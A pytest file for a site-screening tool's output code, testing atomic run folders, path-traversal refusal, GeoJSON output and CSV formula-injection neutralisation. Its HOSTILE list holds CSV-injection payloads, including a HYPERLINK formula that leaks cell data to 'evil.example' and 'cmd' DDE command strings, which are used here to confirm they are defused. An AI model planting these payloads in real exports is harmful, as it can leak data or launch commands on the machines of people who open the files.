import csv
import json
import os
import re
import stat

import numpy as np
import pandas as pd
import pytest

from sitescreen.errors import OutputError, UnsafePathError
from sitescreen.outputs.run_folder import (
    csv_writer,
    geojson_writer,
    json_bytes,
    latest_run,
    neutralise_cell,
    restore_cell,
    site_features,
    site_results_frame,
    write_run,
)


def test_write_run_is_atomic_and_points_latest(tmp_path):
    first = write_run(tmp_path, "run-1", {"a.txt": b"one", "sub/b.txt": b"two"})
    assert (first / "sub" / "b.txt").read_bytes() == b"two"
    second = write_run(tmp_path, "run-2", {"a.txt": b"new"})
    assert os.readlink(tmp_path / "latest") == "run-2"
    assert latest_run(tmp_path) == second
    assert (first / "a.txt").read_bytes() == b"one"


def test_failed_write_leaves_no_partial_run(tmp_path):
    write_run(tmp_path, "run-1", {"a.txt": b"one"})

    def broken_writer(path):
        path.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OutputError, match="No space left on device"):
        write_run(tmp_path, "run-2", {"a.txt": b"x", "big.bin": broken_writer})
    assert sorted(p.name for p in tmp_path.iterdir()) == ["LATEST", "latest", "run-1"]
    assert latest_run(tmp_path).name == "run-1"


@pytest.mark.parametrize("name", ["../escape.txt", "/etc/passwd", "a/../../b"])
def test_output_names_cannot_escape_run_folder(tmp_path, name):
    with pytest.raises(UnsafePathError):
        write_run(tmp_path, "run-x", {name: b"x"})
    assert not (tmp_path / "run-x").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp")]


def test_bad_run_id_refused(tmp_path):
    with pytest.raises(UnsafePathError):
        write_run(tmp_path, "../up", {"a": b""})


def test_geojson_is_lon_lat_with_nulls_for_missing():
    sites = pd.DataFrame({"site_id": ["a", "b"], "name": ["A", "B"],
                          "lon": [121.5, float("nan")], "lat": [31.2, float("nan")]})
    table = pd.DataFrame({"site_id": ["a", "b"], "hazard": "typhoon", "scenario": "optimistic",
                          "year": 2030, "level": [3, 0], "level_low": [2, 0],
                          "level_high": [4, 0], "value": [30.1, float("nan")],
                          "flags": ["", "no-coordinates"], "pathway": "ssp126"})
    fc = json.loads(json_bytes(site_features(sites, table, data_origin="synthetic-demo",
                                             site_columns=["site_id", "name"])))
    a, b = fc["features"]
    assert a["geometry"]["coordinates"] == [121.5, 31.2]
    assert a["properties"]["typhoon_optimistic_2030_level"] == 3
    assert a["properties"]["data_origin"] == "synthetic-demo"
    assert b["geometry"] is None
    assert b["properties"]["typhoon_optimistic_2030_level"] is None
    assert b["properties"]["typhoon_optimistic_2030_value"] is None


def test_leftovers_of_killed_runs_are_cleaned_but_fresh_ones_kept(tmp_path):
    old = tmp_path / ".tmp-20260101T000000Z-abc-x1"
    fresh = tmp_path / ".tmp-20261122T000000Z-def-x2"
    for d in (old, fresh):
        d.mkdir()
        (d / "sites.geojson").write_text("{}")
    os.utime(old, (1, 1))  # a run killed long ago
    write_run(tmp_path, "run-1", {"a.txt": b"one"})
    assert not old.exists()
    assert fresh.exists()  # may belong to a run still writing


def test_csv_writer_writes_a_header_row_first_that_pandas_reads_back(tmp_path):
    frame = pd.DataFrame({"site_id": ["a", "b,2", 'q"x'], "year": [2030, 2050, 2030],
                          "value": [0.1, float("nan"), 3.25], "exact": [True, False, True],
                          "flags": ["", "no-data", ""]})
    path = tmp_path / "t.csv"
    csv_writer(frame)(path)

    lines = path.read_text("utf-8").splitlines()
    assert lines[0].startswith('"site_id"') and len(lines) == 4  # no comment line
    back = pd.read_csv(path, keep_default_na=False, na_values={"value": [""]})
    assert back["site_id"].tolist() == ["a", "b,2", 'q"x']  # quoting survives the round trip
    assert back["year"].tolist() == [2030, 2050, 2030]
    assert back["value"].iloc[0] == 0.1 and pd.isna(back["value"].iloc[1])
    assert back["exact"].tolist() == [True, False, True]


# Cells a spreadsheet would evaluate (OWASP CSV injection), and cells it must leave alone.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "\n=1+1", "'=already quoted", "''+twice"]
HARMLESS = ["Shanghai office", "-12.5", "+3e4", "12", "a=b", " =spaced", "'s-Hertogenbosch",
            ""]


def _formula_like(cell: str) -> bool:
    return bool(re.match(r"^[=+\-@\t\r\n]", cell)) and not re.match(
        r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$", cell)


def test_neutralise_cell_guards_formulas_and_round_trips():
    for cell in HOSTILE:
        safe = neutralise_cell(cell)
        assert safe.startswith("'") and not _formula_like(safe)
        assert restore_cell(safe) == cell
    for cell in HARMLESS:
        assert neutralise_cell(cell) == cell and restore_cell(cell) == cell
    assert neutralise_cell(-3.5) == -3.5 and neutralise_cell(None) is None


@pytest.mark.parametrize("mixed", [False, True])
def test_csv_writer_neutralises_formulas_but_not_numbers(tmp_path, mixed):
    cells = HOSTILE + HARMLESS
    frame = pd.DataFrame({"site_id": cells, "delta": np.arange(len(cells)) - 5.5})
    if mixed:  # an object column Arrow cannot convert: the pandas path
        frame["other"] = pd.Series([1, "x"] * (len(cells) // 2) + [1] * (len(cells) % 2),
                                   dtype=object)
    path = tmp_path / "t.csv"
    csv_writer(frame)(path)
    with open(path, encoding="utf-8", newline="") as fh:  # keep a lone CR as it is
        rows = list(csv.reader(fh))
    assert rows[0][:2] == ["site_id", "delta"]
    got = [r[0] for r in rows[1:]]
    assert not [c for c in got if _formula_like(c)]
    assert [restore_cell(c) for c in got] == cells
    assert [float(r[1]) for r in rows[1:]] == frame["delta"].tolist()  # -5.5 stays a number
    assert rows[1][1] == "-5.5"


def test_site_results_frame_adds_name_precision_and_origin():
    sites = pd.DataFrame({"site_id": ["a", "b"], "name": ["A", "=B"],
                          "geocode_precision": ["city", "coordinates"]})
    table = pd.DataFrame({"site_id": ["b", "a", "b"], "hazard": "typhoon", "level": [1, 2, 0]})
    out = site_results_frame(sites, table, data_origin="local")
    assert list(out.columns) == ["site_id", "name", "geocode_precision", "hazard", "level",
                                 "data_origin"]
    assert out["name"].tolist() == ["=B", "A", "=B"]
    assert out["geocode_precision"].tolist() == ["coordinates", "city", "coordinates"]
    assert set(out["data_origin"]) == {"local"}


def test_geojson_user_columns_are_numbers_when_they_hold_numbers():
    sites = pd.DataFrame({"site_id": ["a", "b", "c"], "name": ["1", "2", "3"],
                          "lon": [121.5, 121.6, 121.7], "lat": [31.2, 31.3, 31.4],
                          "asset_value": ["1200000", "", "35.5"], "headcount": ["10", "20", ""],
                          "code": ["007", "8", "9"]})
    table = pd.DataFrame({"site_id": ["a", "b", "c"], "hazard": "typhoon",
                          "scenario": "optimistic", "year": 2030, "level": [3, 0, 1],
                          "level_low": [3, 0, 1], "level_high": [3, 0, 1],
                          "value": [1.0, float("nan"), 2.0], "flags": "", "pathway": "ssp126"})
    fc = json.loads(json_bytes(site_features(
        sites, table, data_origin="local",
        site_columns=["site_id", "name", "asset_value", "headcount", "code"])))
    props = [f["properties"] for f in fc["features"]]
    assert [p["asset_value"] for p in props] == [1200000.0, None, 35.5]
    assert [p["headcount"] for p in props] == [10, 20, None]
    assert [p["code"] for p in props] == ["007", "8", "9"]
    assert [p["name"] for p in props] == ["1", "2", "3"]  # a site column, never converted
    assert [p["typhoon_optimistic_2030_level"] for p in props] == [3, None, 1]


@pytest.mark.parametrize("umask, folder, file", [(0o022, 0o755, 0o644), (0o027, 0o750, 0o640)])
def test_run_folders_and_latest_follow_the_umask(tmp_path, umask, folder, file):
    before = os.umask(umask)
    try:
        run = write_run(tmp_path, "run-1", {"a.csv": csv_writer(pd.DataFrame({"x": [1]})),
                                            "sub/b.txt": b"two"})
    finally:
        os.umask(before)
    mode = {p.relative_to(tmp_path).as_posix(): stat.S_IMODE(p.stat().st_mode)
            for p in [run, run / "a.csv", run / "sub", run / "sub" / "b.txt",
                      tmp_path / "LATEST"]}
    assert mode == {"run-1": folder, "run-1/a.csv": file, "run-1/sub": folder,
                    "run-1/sub/b.txt": file, "LATEST": file}


def test_csv_writer_falls_back_to_pandas_for_mixed_object_columns(tmp_path):
    frame = pd.DataFrame({"mixed": pd.Series([1, "two", None], dtype=object)})
    path = tmp_path / "m.csv"
    csv_writer(frame)(path)
    # text quoted as the Arrow path quotes it; a lone empty cell so the row is not blank
    assert path.read_text("utf-8").splitlines() == ['"mixed"', "1", '"two"', '""']


def test_geojson_writer_streams_the_same_bytes_as_json_bytes(tmp_path):
    features = [{"type": "Feature", "id": f"s{i}", "geometry": None,
                 "properties": {"v": float("nan") if i == 1 else i}} for i in range(3)]
    whole = {"type": "FeatureCollection", "features": features, "name": "x"}
    lazy = {"type": "FeatureCollection", "features": iter(features), "name": "x"}
    geojson_writer(lazy)(tmp_path / "a.geojson")
    assert (tmp_path / "a.geojson").read_bytes() == json_bytes(whole)
    assert json.loads(json_bytes(whole))["features"][1]["properties"]["v"] is None
    empty = {"type": "FeatureCollection", "features": iter(())}
    geojson_writer(empty)(tmp_path / "e.geojson")
    assert json.loads((tmp_path / "e.geojson").read_text())["features"] == []


def _run_folder(out, run, run_id):
    from sitescreen.outputs.run_files import render_files

    sites, table, shares, manifest = run
    manifest = {**manifest, "run_id": run_id, "created_at": f"2025-01-0{run_id[-1]}T00:00:00Z"}
    files = render_files(sites=sites, table=table, shares_table=shares, manifest=manifest,
                         out_root=out, report=False)
    return write_run(out, run_id, files)


def test_every_csv_of_a_run_neutralises_a_hostile_corpus(tmp_path):
    from report_fixtures import SITES, build_run, sites_frame

    hostile = [dict(site_id=cell, name=cell, city="Shanghai", country="CN", lon=121.4 + i / 100,
                    lat=31.2, location_source="given", geocode_precision="coordinates")
               for i, cell in enumerate(HOSTILE)]
    base = sites_frame([dict(r) for r in SITES]).assign(**{"=cmd|' /C calc'!A0": "@x"})
    more = sites_frame([dict(r) for r in SITES] + hostile).assign(
        **{"=cmd|' /C calc'!A0": "@x"})
    kw = dict(hazards=("typhoon",), years=(2030,))
    _run_folder(tmp_path, build_run(sites=base, **kw), "20250101T000000Z-aaaaa1")
    second = _run_folder(tmp_path, build_run(sites=more, **kw), "20250101T000000Z-aaaaa2")
    third = _run_folder(tmp_path, build_run(sites=more, **kw), "20250101T000000Z-aaaaa3")

    for run in (second, third):
        for name in ("site_results.csv", "changes.csv", "summary.csv", "fields.csv"):
            with open(run / name, encoding="utf-8", newline="") as fh:
                rows = list(csv.reader(fh))
            assert not rows[0][0].startswith("#"), name
            assert len(rows) > 1 or (run, name) == (third, "changes.csv")  # no changes
            bad = [c for r in rows for c in r if _formula_like(c)]
            assert not bad, (run.name, name, bad)
    results = pd.read_csv(second / "site_results.csv", keep_default_na=False)
    assert {"name", "geocode_precision", "data_origin"} <= set(results.columns)
    assert set(results["site_id"].map(restore_cell)) >= set(HOSTILE)
    added = pd.read_csv(second / "changes.csv", keep_default_na=False)
    added = added[added["change"] == "site added"]
    assert set(added["site_id"].map(restore_cell)) == set(HOSTILE)
    # Reading the neutralised ids back gives the same sites: nothing added or removed.
    again = json.loads((third / "changes.json").read_text("utf-8"))
    assert not again["sites_added"] and not again["sites_removed"]
    fields = pd.read_csv(second / "fields.csv", keep_default_na=False)
    names = set(fields["name"].map(restore_cell))
    assert "=cmd|' /C calc'!A0" in names
    # The dictionary covers every column of site_results.csv and sites.geojson.
    assert set(results.columns) <= names
    props = json.loads((second / "sites.geojson").read_text("utf-8"))["features"][0]
    assert set(props["properties"]) <= names
# --- reserved output names -------------------------------------------------------------------

def test_result_field_names_are_reserved(tmp_path):
    from sitescreen.outputs.run_folder import is_reserved_output_name

    for name in ("water_stress_pessimistic_2030_level", "floods_typhoons_optimistic_2050_high",
                 "typhoon_current_trend_2080_pathway", "data_origin", "run_id", "lon",
                 "geocode_precision", "Location_Source"):
        assert is_reserved_output_name(name), name
    for name in ("asset_value", "water_stress_note", "level", "pessimistic_2030"):
        assert not is_reserved_output_name(name), name


def test_a_property_named_like_a_result_field_is_renamed_the_same_way_everywhere(
        tmp_path_factory, tmp_path):
    import pyogrio
    from small_pack import AREAS, site, sites_doc, small_pack

    from sitescreen.pipeline import make_request, screen
    from sitescreen.sites import validate_sites

    clash = "water_stress_pessimistic_2030_level"
    feature = site("a", "A", lon=AREAS[0].lon, lat=AREAS[0].lat)
    feature["properties"].update({clash: 1, "data_origin": "audited", "src_data_origin": "x"})
    path = tmp_path / "sites.geojson"
    path.write_text(json.dumps(sites_doc(feature)), "utf-8")

    report = validate_sites(path)
    renamed = [p for p in report.warnings if clash in p.message]
    assert renamed and f"src_{clash}" in renamed[0].message

    request = make_request(sites=str(path), data=str(small_pack(tmp_path_factory)),
                           out=str(tmp_path / "out"), years=[2030], scenarios=["pessimistic"],
                           hazards=["water_stress"], cache_dir=str(tmp_path / "cache"),
                           report=False)
    run = screen(request)
    props = json.loads((run.run_dir / "sites.geojson").read_text())["features"][0]["properties"]
    gpkg = pyogrio.read_dataframe(run.run_dir / "sites.gpkg", layer="sites")
    level = int(run.table.query("hazard == 'water_stress'")["level"].iloc[0])
    assert props[clash] == level and props[f"src_{clash}"] == 1
    # "src_data_origin" is taken by the input itself, so the renamed one gets a number.
    assert props["data_origin"] == "synthetic-demo" and props["src_data_origin_2"] == "audited"
    assert props["src_data_origin"] == "x"
    assert gpkg[clash].tolist() == [level]  # the sites layer's level field: the result
    assert gpkg[f"src_{clash}"].tolist() == [1]
    assert gpkg["src_data_origin_2"].tolist() == ["audited"]
    assert gpkg["data_origin"].tolist() == ["synthetic-demo"]


@pytest.mark.parametrize("kind", ["folder", "file"])
def test_latest_as_a_real_folder_or_file_is_refused_before_writing(tmp_path, kind):
    latest = tmp_path / "latest"
    if kind == "folder":
        latest.mkdir()
        (latest / "old.txt").write_text("an analyst's copy")
    else:
        latest.write_text("not a link")

    with pytest.raises(OutputError, match=f"is a real {kind}, not the link") as err:
        write_run(tmp_path, "20250101T000000Z-aaaaaa", {"a.txt": b"x"})

    assert "move it away" in str(err.value)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["latest"]  # nothing written
    assert latest.exists() and not latest.is_symlink()


# --- a run's temporary folder goes on every exit the process survives -----------------------

_SLOW_WRITE = """
import sys, time
from pathlib import Path
from sitescreen.cli import exit_on_sigterm
from sitescreen.outputs.run_folder import write_run

exit_on_sigterm()

def slow(path: Path) -> None:  # a big GeoPackage on its way
    path.write_bytes(b"g" * (1 << 20))
    print("writing", flush=True)
    time.sleep(60)
    # Reached only when the interrupted process waited for its writer.
    (Path(sys.argv[1]).parent / "writer-finished").write_text("late")
    if sys.argv[2] == "raise":
        raise RuntimeError("boom")

def failing(path: Path) -> None:
    path.write_bytes(b"g" * (1 << 20))
    raise RuntimeError("a writer's bug")

write_run(sys.argv[1], "20250301T000000Z-cccccc",
          {"summary.csv": b"x\\n", "sites.gpkg": failing if sys.argv[2] == "raise" else slow})
"""


@pytest.mark.parametrize("how", ["SIGTERM", "SIGINT", "raise"])
def test_an_interrupted_or_failed_write_leaves_no_temporary_folder(tmp_path, how):
    import signal
    import subprocess
    import sys

    out = tmp_path / "results"
    first = write_run(out, "20250101T000000Z-aaaaaa", {"summary.csv": b"previous\n"})
    # SIG_DFL: a background non-interactive shell would hand SIGINT down ignored.
    proc = subprocess.Popen([sys.executable, "-c", _SLOW_WRITE, str(out), how],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    if how != "raise":
        assert proc.stdout.readline().strip() == "writing"
        assert list(out.glob(".tmp-*"))  # the folder exists while the write is under way
        proc.send_signal(getattr(signal, how))
    _, stderr = proc.communicate(timeout=120)

    assert proc.returncode != 0
    if how == "SIGTERM":
        from sitescreen.cli import EXIT_TERMINATED

        assert proc.returncode == EXIT_TERMINATED, stderr
    assert list(out.glob(".tmp-*")) == [], stderr
    assert sorted(p.name for p in out.iterdir()) == [first.name, "LATEST", "latest"]
    # An interrupt does not wait for a writer to finish its file (writers run in threads).
    assert not (tmp_path / "writer-finished").exists()


def test_shared_rendering_draws_once_for_all_its_files_and_fails_them_all(tmp_path):
    from sitescreen.outputs.run_folder import SharedRendering

    calls = []

    def render():
        calls.append(1)
        return {"charts/a.png": b"A", "report.md": b"R"}

    shared = SharedRendering(["charts/a.png", "report.md"], render)
    run = write_run(tmp_path, "run-1", {**shared.writers(), "x.txt": b"x"})
    assert (run / "charts" / "a.png").read_bytes() == b"A" and len(calls) == 1
    assert (run / "report.md").read_bytes() == b"R"

    def broken():
        calls.append(1)
        raise RuntimeError("no fonts")

    failing = SharedRendering(["a.png", "b.png"], broken)
    with pytest.raises(OutputError, match="no fonts"):
        write_run(tmp_path, "run-2", failing.writers())
    assert not (tmp_path / "run-2").exists() and len(calls) == 2
    with pytest.raises(RuntimeError, match="no fonts"):  # drawn once: the error is kept
        failing.files()
    assert len(calls) == 2
    with pytest.raises(ValueError, match="expected"):
        SharedRendering(["a.png"], lambda: {"b.png": b""}).files()


def test_deferred_charts_and_report_are_the_files_rendered_up_front(tmp_path):
    from report_fixtures import build_run

    from sitescreen.outputs.run_files import render_files

    sites, table, shares, manifest = build_run(hazards=("typhoon",), years=(2030,))
    kw = dict(sites=sites, table=table, shares_table=shares, manifest=manifest)
    up_front = render_files(**kw)
    deferred = render_files(**kw, defer_report=True)
    assert sorted(deferred) == sorted(up_front)
    drawn = [n for n in up_front if n.startswith("charts/") or n.startswith("report.")]
    assert drawn and all(callable(deferred[n]) and isinstance(up_front[n], bytes)
                         for n in drawn)
    run = write_run(tmp_path, manifest["run_id"], deferred)
    for name in drawn:
        assert (run / name).read_bytes() == up_front[name], name
